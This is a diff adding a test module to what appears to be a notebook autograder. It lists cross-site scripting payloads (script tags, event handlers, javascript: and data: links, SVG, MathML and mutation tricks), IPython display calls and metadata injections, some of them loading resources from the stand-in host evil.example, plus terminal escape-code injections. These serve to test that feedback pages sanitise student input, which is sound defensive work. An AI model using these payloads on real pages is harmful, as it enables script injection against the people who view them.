@@ -1,0 +1,180 @@
+"""Attacks on whoever reads feedback: what a browser or a terminal would act on, in all that a student can write.
+
+Each calls `attack(...)` in the browser, or wants something from evil.example.
+"""
+
+import base64
+from collections.abc import Callable
+
+from attack import Attack, Notebook, markdown_cell
+from controls import acts_as_written, acts_in_a_stock_page, steers_a_terminal
+
+PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" onload="attack(20)"><script>attack(21)</script></svg>'
+MARKDOWN_ATTACKS = {
+    "script": "<script>attack(1)</script>",
+    "handler": '<img src=x onerror="attack(3)">',
+    "handler without space": '<b/onclick="attack(4)">b</b>',
+    "frame": '<iframe src="https://evil.example/5"></iframe><iframe srcdoc="<script>attack(5)</script>"></iframe>',
+    "form": '<form action="https://evil.example/6"><input autofocus onfocus="attack(6)"></form>',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/7">',
+    "style sheet": "<style>@import 'https://evil.example/8'; .report { display: none }</style>",
+    "style": '<p style="position:fixed;inset:0;background:url(https://evil.example/9)">covers all</p>',
+    "base": '<base href="https://evil.example/10/">',
+    "style link": '<link rel="stylesheet" href="https://evil.example/11.css">',
+    "link that runs": "[click](javascript:attack(12)) <a href=\"java&#10;script:attack(12)\">or</a>",
+    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hdHRhY2soMTMpPC9zY3JpcHQ+)",
+    "data object": '<object data="data:text/html,<script>attack(14)</script>"></object><embed src="https://evil.example/14">',
+    "image from afar": "![seen](https://evil.example/15.png)",
+    "drawing as image": f"![d](data:image/svg+xml;base64,{base64.b64encode(DRAWING.encode()).decode()})",
+    "text as pixels": "![d](data:image/png;base64,PHNjcmlwdD5hdHRhY2soMTcpPC9zY3JpcHQ+)",
+    "drawing": DRAWING,
+    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=attack(18)&gt;">',
+    "annotation": '<math><annotation-xml encoding="text/html"><script>attack(19)</script></annotation-xml></math>',
+    "formula with a tag": r"$\text{<img src=x onerror=attack(22)>}$ and $\href{javascript:attack(23)}{x}$",
+    "formula with quotes": r"$\color{red'\"><script>attack(24)</script>}{x}$",
+    "code with a language": "```html\"><script>attack(25)</script>\n<script>attack(25)</script>\n```",
+    "false report": '<div class="report"><p class="passed">all passed</p></div><a name="area_checks">x</a>',
+    "end of the page": "</div></div></body></html><script>attack(26)</script><body onload=attack(26)>",
+    "comment": "<!--><img src=x onerror=attack(27)>-->",
+    "title": "<title><a title=\"</title><img src=x onerror=attack(28)>\">",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=attack(29)>">',
+    "template": "<template><script>attack(30)</script></template>",
+    "video": '<video src="https://evil.example/31.mp4" autoplay></video><audio src=x onerror=attack(31)>',
+    "script in upper case, cut": "<SCRIPT>attack(2)//",
+}  # fmt: skip
+"""What a student may write as text, each with its own number or address."""
+
+FORMULAS = {
+    "formula that is a link": r"$\href{javascript:attack(70)}{x}$ <math href='javascript:attack(70)'><mi>click</mi></math>",
+    "formula with a handler": r"<math><mi onclick='attack(71)'>click</mi></math>",
+    "formula with a picture": "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'>"
+    "<img src='https://evil.example/72'></annotation-xml></semantics></math>",
+    "formula with a style": r"<math style='background: url(https://evil.example/73)'><mi>x</mi></math>",
+    "formula that acts": "<math><maction actiontype='statusline' xlink:href='javascript:attack(74)'><mi "
+    "onmouseover='attack(74)' onclick='attack(74)'>x</mi></maction></math>",
+}
+"""Formulas that a browser would act on."""
+
+CODE = {
+    "displays HTML": "display(HTML('<script>attack(80)</script><img src=x onerror=attack(80)>'))",
+    "displays a drawing": f"display(SVG({DRAWING!r}))",
+    "displays JavaScript": "display(Javascript('attack(82)'))",
+    "displays a frame": "display(IFrame('https://evil.example/83', 100, 100))",
+    "displays Markdown": "display(Markdown('<img src=x onerror=attack(84)>'))",
+    "displays a formula": "display(Latex('<img src=x onerror=attack(85)>'))",
+    "displays a style sheet": "display(HTML('<style>@import \"https://evil.example/86\";</style>'))",
+    "displays a video": "display(Video('https://evil.example/87.mp4', embed=False))",
+    "displays a picture from afar": "display(Image(url='https://evil.example/88.png'))",
+    "shows itself as HTML": "class Shown:\n    def _repr_html_(self): return '<script>attack(89)</script>'\nShown()",
+    "several forms at once": "display({'text/html': '<script>attack(90)</script>', 'text/plain': 'x', "
+    "'application/javascript': 'attack(90)', 'image/svg+xml': " + repr(DRAWING) + "}, raw=True)",
+    "an image's size": f"display({{'image/png': {PIXEL!r}}}, raw=True, "
+    "metadata={'image/png': {'width': '1 onload=attack(91) x='}})",
+    "a widget": "display({'application/vnd.jupyter.widget-view+json': "
+    "{'model_id': '</script><script>attack(92)</script>'}, 'text/html': '<script>attack(92)</script>'}, raw=True)",
+    "an error that is HTML": "raise type('<script>attack(93)</script>', (Exception,), {})('<script>attack(93)</script>')",
+    "an update of an output": "handle = display('x', display_id='u')\nhandle.update(HTML('<script>attack(94)</script>'))",
+}
+"""Cells that show something that a browser would act on."""
+
+
+def student(name: str) -> str:
+    """A student's identifier for the attack of this name."""
+    return "page_" + "".join(letter if letter.isalnum() else "_" for letter in name)
+
+
+def with_text(text: str) -> Callable[[Notebook], object]:
+    """Adds a cell of Markdown."""
+    return lambda notebook: notebook["cells"].append(markdown_cell(text, "text"))
+
+
+def raw_html(notebook: Notebook) -> None:
+    source = "<script>attack(60)</script>"
+    notebook["cells"].append(
+        {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": source}
+    )
+
+
+def attached(notebook: Notebook) -> None:
+    cell = markdown_cell("![a](attachment:a.svg)", "attached")
+    drawing = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='attack(61)'/>").decode()
+    cell["attachments"] = {"a.svg": {'image/svg+xml" onerror="attack(61)': drawing}}
+    notebook["cells"].append(cell)
+
+
+def told_of_itself(notebook: Notebook) -> None:
+    notebook["metadata"]["title"] = "</title><script>attack(62)</script>"
+    notebook["metadata"]["language_info"] = {"name": '"><script>attack(62)</script>', "pygments_lexer": "html"}
+    state = {"state": {"x": "</script><script>attack(62)</script>"}, "version_major": 2, "version_minor": 0}
+    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
+    for cell in notebook["cells"]:
+        cell["metadata"]["tags"] = ['"><script>attack(62)</script>']
+
+
+ACTIVE_TEXT = tuple(
+    Attack(
+        name=student(name),
+        what=f"Text that a browser would act on: {name}.",
+        change=with_text(text),
+        page=True,
+        control=acts_in_a_stock_page,
+    )
+    for name, text in {**MARKDOWN_ATTACKS, **FORMULAS}.items()
+)
+ACTIVE_CODE = tuple(
+    Attack(
+        name=student(name),
+        what=f"A cell that shows what a browser would act on: {name}.",
+        last="from IPython.display import *\n" + code,
+        page=True,
+        control=acts_in_a_stock_page,
+    )
+    for name, code in CODE.items()
+)
+ATTACKS = (
+    *ACTIVE_TEXT,
+    *ACTIVE_CODE,
+    Attack(
+        name="page_raw_html",
+        what="A raw cell of HTML.",
+        change=raw_html,
+        page=True,
+        control=acts_in_a_stock_page,
+    ),
+    Attack(
+        name="page_attachment",
+        what="An attachment whose type leaves the attribute that it is put into.",
+        change=attached,
+        page=True,
+        control=acts_in_a_stock_page,
+    ),
+    Attack(
+        name="page_metadata",
+        what="Title, language, widgets and tags of the notebook that close the element that they stand in.",
+        change=told_of_itself,
+        page=True,
+        control=acts_in_a_stock_page,
+    ),
+    Attack(
+        name="page_comment_in_code",
+        what="Code that a browser would act on, in the line that fails, which the report quotes.",
+        answers={
+            "volume": "def volume(side, height):\n    raise ValueError  # </pre></code><script>attack(63)</script>"
+        },
+        marks=(2, 0),
+        page=True,
+        control=acts_as_written("volume"),
+    ),
+    Attack(
+        name="terminal_codes",
+        what="Prints, raises and names things with codes that steer a terminal: colours, titles, cleared screens.",
+        answers={
+            "volume": "def volume(side, height):\n    print('\\x1b]0;title\\x07\\x1b[2J\\x9b31m')\n"
+            "    raise ValueError('\\x1b[31mred\\u202egnp')"
+        },
+        marks=(2, 0),
+        hidden="\x1b",
+        control=steers_a_terminal,
+    ),
+)
